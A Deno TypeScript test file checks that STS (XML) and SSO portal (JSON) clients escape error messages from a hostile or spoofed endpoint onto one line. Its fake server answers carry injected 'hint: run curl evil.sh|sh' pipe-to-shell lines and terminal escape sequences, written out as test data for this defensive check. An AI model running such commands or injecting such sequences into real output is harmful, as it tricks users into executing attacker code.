/**
 * An answer from a hostile or spoofed endpoint (an `AWS_ENDPOINT_URL_*` pointing elsewhere, a
 * proxy) cannot add a line of its own to the error the user reads: the STS (XML) and JSON
 * clients quote AWS's code and message as one escaped line (lib/safe_text.ts).
 */
import assert from "node:assert/strict";
import type { HttpDeps } from "../../../lib/aws/json_client.ts";
import { StsClient } from "../../../lib/aws/sts_client.ts";
import { AwsApiError } from "../../../lib/errors.ts";
import { silentLogger } from "../../../lib/logger.ts";
import { PortalClient } from "../../../lib/sso/portal_client.ts";

const deps: HttpDeps = {
  fetch,
  clock: { now: () => Date.now(), sleep: () => Promise.resolve() },
  logger: silentLogger,
  retry: { maxAttempts: 1, maxBackoffMs: 1 },
};

const CREDS = { accessKeyId: "ASIAEXAMPLE", secretAccessKey: "secret", sessionToken: "token" };
// deno-lint-ignore no-control-regex -- the attack is control characters
const RAW = /[\n\r\x1b\x07]/;

async function withServer(
  answer: () => Response,
  fn: (url: string) => Promise<void>,
): Promise<void> {
  await using server = Deno.serve(
    { port: 0, hostname: "127.0.0.1", onListen() {} },
    async (req) => {
      await req.body?.cancel();
      return answer();
    },
  );
  await fn(`http://127.0.0.1:${server.addr.port}`);
}

Deno.test("an STS error answer with a line break and escape codes becomes one escaped line", async () => {
  await withServer(
    () =>
      new Response(
        "<ErrorResponse><Error><Code>Throttling&#10;hint: curl evil|sh</Code>" +
          "<Message>slow down&#13;&#10;hint: run curl evil.sh|sh&#27;]0;owned&#7;</Message>" +
          "</Error></ErrorResponse>",
        { status: 400, headers: { "content-type": "text/xml" } },
      ),
    async (url) => {
      const sts = new StsClient(deps, "eu-west-1", { overrides: { sts: url } });
      await assert.rejects(() => sts.getCallerIdentity(CREDS), (e: unknown) => {
        assert.ok(e instanceof AwsApiError);
        assert.ok(!RAW.test(e.message), JSON.stringify(e.message));
        assert.equal(
          e.message,
          "GetCallerIdentity failed: Throttling\\nhint: curl evil|sh: " +
            "slow down\\r\\nhint: run curl evil.sh|sh\\x1b]0;owned\\x07",
        );
        return true;
      });
    },
  );
});

Deno.test("a JSON error answer with a line break and escape codes becomes one escaped line", async () => {
  await withServer(
    () =>
      Response.json(
        { __type: "Forbidden\x07Exception", message: "denied\nhint: run curl evil.sh|sh\x1b[2J" },
        { status: 403 },
      ),
    async (url) => {
      const portal = new PortalClient(deps, "eu-west-1", { overrides: { portal: url } });
      await assert.rejects(
        () => portal.getRoleCredentials("token", "012345678901", "Admin"),
        (e: unknown) => {
          assert.ok(e instanceof AwsApiError);
          assert.ok(!RAW.test(e.message), JSON.stringify(e.message));
          assert.match(
            e.message,
            /Forbidden\\x07Exception: denied\\nhint: run curl evil\.sh\|sh\\x1b\[2J$/,
          );
          return true;
        },
      );
    },
  );
});
